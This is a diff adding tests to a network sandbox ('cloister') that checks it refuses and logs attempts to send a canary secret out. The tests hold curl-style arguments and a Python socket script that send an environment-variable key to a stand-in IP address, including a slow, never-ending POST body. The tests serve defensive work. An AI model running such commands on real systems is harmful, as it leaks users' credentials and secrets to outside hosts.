@@ -179,6 +179,47 @@ def test_anywhere_else_is_refused(online, words, why):
     assert not online.lab.seen(fake) and not online.lab.seen(real)
 
 
+@pytest.mark.parametrize("words", [
+    '-H "X: $KEY"', '"http://93.184.216.99/?$KEY"', '-d "$KEY"', '-k --http2 -H "X: $KEY" https://93.184.216.99/',
+    '-H "Transfer-Encoding: chunked" -d "{\\"a\\":\\"$KEY\\"}"'])
+def test_so_is_what_no_rule_allows(online, words):
+    """The most usual way: to somebody's address.  Nothing leaves, but it is seen for what it is."""
+    give(online, canary())
+    url = "" if "://" in words else "http://93.184.216.99/"
+    done, fake, said = sh(online, fetch(words, url))
+    assert json.loads(said)["error"] == "refused by cloister"
+    event = online.refusal(type="http")
+    assert event["why"] == "exfiltration" and event["status"] == 403
+    assert "'93.184.216.99' is not among its hosts" in event["note"]
+    assert "exfiltration" in online.operator.cloister("events", online.cell).ok() and "placeholder" in done.err
+
+
+def test_what_is_refused_on_its_way_home_is_not(online):
+    """The secret may go there, though this request may not."""
+    give(online, canary(), "--in", "header:authorization", "--in", "body")
+    rules = "  - deny: up.example.test\n    paths: [/echo]\n" + OPEN
+    sh(online, fetch('-H "Authorization: Bearer $KEY" -d "$KEY"', f"{UP}/echo"), rules=rules)
+    assert online.refusal(type="http")["why"] == "rule"
+
+
+def test_a_refused_body_that_never_ends(online):
+    """The refusal is told at once all the same, and what comes later, too."""
+    give(online, canary())
+    script = """import os, socket, time
+s = socket.create_connection(("93.184.216.99", 80))
+s.sendall(b"POST / HTTP/1.1\\r\\nHost: 93.184.216.99\\r\\nContent-Length: 100000\\r\\n\\r\\nx")
+print(s.recv(12).decode(), flush=True)
+while not os.path.exists("go"): time.sleep(0.05)
+s.sendall(os.environ["KEY"].encode() + b" ")
+while s.recv(65536): pass
+"""
+    online.start(OPEN, "/usr/bin/python3", "-c", script, options=("-s", "KEY"))
+    wait_until(lambda: online.events(type="http", why="no-rule"), "it is recorded")
+    online.inside("touch", "go").ok()
+    wait_until(lambda: online.events(type="http", why="exfiltration"), "what was in it is recorded")
+    online.operator.cloister("kill", online.cell).ok()
+
+
 def test_what_people_are_told_of_it(online):
     give(online, canary())
     sh(online, fetch('-H "X-Other: $KEY"', f"{UP}/echo"))
